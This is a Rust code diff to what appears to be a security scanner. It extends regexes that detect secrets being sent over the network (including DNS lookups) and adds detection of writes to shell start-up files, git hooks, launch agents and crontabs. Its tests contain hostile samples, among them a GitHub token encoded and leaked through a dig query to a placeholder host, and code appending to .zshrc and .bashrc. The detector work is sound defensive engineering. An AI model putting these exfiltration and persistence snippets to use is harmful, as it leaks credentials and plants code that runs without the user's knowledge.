@@ -44,7 +44,7 @@ re!(
 );
 re!(
     SEND,
-    r"(?i)requests\.(post|put|patch|get)\s*\(|httpx\.(post|put|patch|get)\s*\(|urlopen\s*\(|urllib\.request\.Request\s*\(|http\.client|\bfetch\s*\(|axios(\.(post|put|get))?\s*\(|https?\.(request|get)\s*\(|\bcurl\b|\bwget\b|Invoke-(WebRequest|RestMethod)|\biwr\b|socket\.(connect|send|sendall)|\.connect\(\s*\(|\bnc\s|\bncat\b|smtplib|\bnslookup\b|\bdig\s|dns\.resolver|git\s+push|\bscp\s|\brsync\s|\b(req|request|client|sock|ws|conn)\.(write|send|end)\s*\("
+    r"(?i)requests\.(post|put|patch|get)\s*\(|httpx\.(post|put|patch|get)\s*\(|urlopen\s*\(|urllib\.request\.Request\s*\(|http\.client|\bfetch\s*\(|axios(\.(post|put|get))?\s*\(|https?\.(request|get)\s*\(|\bcurl\b|\bwget\b|Invoke-(WebRequest|RestMethod)|\biwr\b|socket\.(connect|send|sendall)|\.connect\(\s*\(|\bnc\s|\bncat\b|smtplib|\bnslookup\b|\bdig\s|dns\.resolver|git\s+push|\bscp\s|\brsync\s|gethostbyname|getaddrinfo|\bresolver\.(resolve|query)|dns\.lookup|\b(req|request|client|sock|ws|conn)\.(write|send|end)\s*\("
 );
 re!(
     AS_CREDENTIAL,
@@ -67,6 +67,16 @@ re!(
 /// Whether a line places a secret where a request carries its credential.
 fn as_credential(line: &str) -> bool {
     AS_CREDENTIAL.is_match(line) || CREDENTIAL_PARAM.is_match(line)
+}
+
+/// Whether `var` is the value of a field named as a credential (`params={"appid": key}`, `api_key=key`,
+/// `"token": f"{tok}"`).
+fn in_credential_field(line: &str, var: &str) -> bool {
+    let pattern = format!(
+        r#"(?i)(key|token|auth|secret|appid|app_id|password|passwd|credential|signature)\w*['"]?\s*[:=]\s*f?['"`]?(Bearer\s+)?(\$\{{|\{{)?\s*{}\b"#,
+        regex::escape(var)
+    );
+    Regex::new(&pattern).is_ok_and(|re| re.is_match(line))
 }
 
 /// Where a secret is read, and what it is.
@@ -98,10 +108,8 @@ pub(super) fn secret_flows(code: &str, first_line: u32) -> Vec<(u32, &'static st
     for (i, line) in lines.iter().enumerate() {
         let n = first_line + statements[i].0;
         let here = source_of(line);
-        let from_var = tainted
-            .iter()
-            .find(|(v, _, _)| mentions(line, v))
-            .map(|(_, l, what)| (*l, *what));
+        let used = tainted.iter().find(|(v, _, _)| mentions(line, v));
+        let from_var = used.map(|(_, l, what)| (*l, *what));
         let source = here.map(|w| (n, w)).or(from_var);
         let Some((source_line, what)) = source else {
             continue;
@@ -109,7 +117,8 @@ pub(super) fn secret_flows(code: &str, first_line: u32) -> Vec<(u32, &'static st
         if SEND.is_match(line) {
             // Only a secret sent as a request's credential (and nothing else of the secret's) is an API call.
             // A single secret (a key from a variable or a file) in a request's credential position is an API call.
-            let credential = what != "the whole environment" && as_credential(line);
+            let credential = what != "the whole environment"
+                && (as_credential(line) || used.is_some_and(|(v, _, _)| in_credential_field(line, v)));
             if !credential && sinks_seen.insert(n) {
                 out.push((source_line, what, n));
             }
@@ -185,6 +194,58 @@ pub(super) fn from_release_host(line: &str) -> bool {
     RELEASE_HOST.is_match(line)
 }
 
+re!(
+    STARTUP,
+    r"(?i)\.(bashrc|zshrc|bash_profile|bash_login|zprofile|zshenv|profile)\b|\.git/hooks/|LaunchAgents|LaunchDaemons|systemd/user|/etc/cron|\bautostart\b|Startup\\|\.config/fish/config"
+);
+re!(
+    WRITE,
+    r#"(?i)\bopen\([^)\n]*['"][aw]\+?['"]|\.open\(\s*['"][aw]|write_text\(|write_bytes\(|writeFile(Sync)?\(|appendFile(Sync)?\(|>>|\btee\b|\.write\(|copyfile\(|shutil\.copy"#
+);
+re!(
+    CRONTAB_FROM_FILE,
+    r#"\[\s*['"]crontab['"]\s*,\s*[^'"\s\-\]][^\]]*\]|\bcrontab\s+[^-\s|;&][^\s|;&]*"#
+);
+re!(PATH_JOIN, r#"['"]\s*\)?\s*/\s*\(?\s*['"]|['"]\s*\+\s*['"]"#);
+
+/// Writes to a file that runs later (a shell start-up file, a git hook, a launch agent, a user service, a crontab),
+/// named on one line, maybe in pieces (`Path.home() / (".zsh" + "rc")`), and written on the same or a later line:
+/// (naming line, writing line).
+pub(super) fn startup_writes(code: &str, first_line: u32) -> Vec<(u32, u32)> {
+    let statements = statements(code);
+    let mut out = Vec::new();
+    let mut named: Vec<(String, u32)> = Vec::new();
+    for (offset, raw) in &statements {
+        let n = first_line + offset;
+        // Pieces of a path joined as the program would join them.
+        let line = PATH_JOIN.replace_all(raw, "/").into_owned();
+        let line = line.replace("//", "/");
+        if CRONTAB_FROM_FILE.is_match(raw) && !raw.contains("crontab -l") {
+            out.push((n, n));
+            continue;
+        }
+        let here = STARTUP.is_match(&line) || STARTUP.is_match(&line.replace('/', ""));
+        let through = named.iter().find(|(v, _)| mentions(&line, v)).map(|(_, l)| *l);
+        let source = if here { Some(n) } else { through };
+        let Some(source) = source else { continue };
+        if WRITE.is_match(&line) {
+            out.push((source, n));
+        }
+        if let Some(c) = ASSIGN.captures(raw) {
+            named.push((c[1].to_owned(), source));
+        }
+        // A loop variable over names of start-up files (`for name in (".zsh" + "rc", …)`).
+        if let Some(var) = raw
+            .trim_start()
+            .strip_prefix("for ")
+            .and_then(|r| r.split_whitespace().next())
+        {
+            named.push((var.trim_end_matches(',').to_owned(), source));
+        }
+    }
+    out
+}
+
 /// A download to a file that a later line of the same code makes executable or runs: (download line, run line).
 pub(super) fn download_then_run(code: &str, first_line: u32) -> Option<(u32, u32)> {
     let lines: Vec<&str> = code.lines().collect();
@@ -248,6 +309,8 @@ mod tests {
     fn a_key_sent_as_the_credential_of_an_api_call_is_not_a_flow() {
         let py = "key = os.environ['WEATHER_API_KEY']\nr = requests.get(url, headers={'Authorization': f'Bearer {key}'})\n";
         assert_eq!(secret_flows(py, 1), vec![]);
+        let params = "key = os.environ.get(\"OPENWEATHER_API_KEY\")\nr = requests.get(API, params={\"q\": city, \"appid\": key}, timeout=10)\n";
+        assert!(secret_flows(params, 1).is_empty());
         let js = "const url = `https://www.google.com/recaptcha/api/siteverify?secret=${SECRET_KEY}&response=${t}`;\nconst r = await fetch(url);\n";
         assert!(secret_flows(js, 1).is_empty());
         let dns = "secret = os.environ[\"GITHUB_TOKEN\"]\nencoded = base64.b32encode(secret.encode()).decode()\nos.popen(f\"dig {encoded}.x.invalid\")\n";
@@ -259,6 +322,19 @@ mod tests {
         assert!(secret_flows(sh, 1).is_empty());
         let plain = "import os\nprint(os.environ.get('HOME'))\nrequests.get('https://api.x.invalid')\n";
         assert!(secret_flows(plain, 1).is_empty());
+    }
+
+    #[test]
+    fn writes_to_start_up_files_are_found_when_named_in_pieces() {
+        let py = "from pathlib import Path\nfor name in (\".zsh\" + \"rc\", \".bash\" + \"rc\"):\n    rc = Path.home() / name\n    with rc.open(\"a\") as f:\n        f.write(\"x\")\n";
+        assert_eq!(startup_writes(py, 1).first(), Some(&(2, 4)));
+        let hook = "h = Path(\".git\") / \"hooks\" / \"pre-commit\"\nh.write_text(\"#!/bin/sh\\nx\")\n";
+        assert_eq!(startup_writes(hook, 1), vec![(1, 2)]);
+        let cron = "t.close()\nsubprocess.run([\"crontab\", t.name])\n";
+        assert_eq!(startup_writes(cron, 1), vec![(2, 2)]);
+        let read =
+            "print(open(os.path.expanduser('~/.bashrc')).read())\nsubprocess.run([\"crontab\", \"-l\"])\n";
+        assert!(startup_writes(read, 1).is_empty());
     }
 
     #[test]
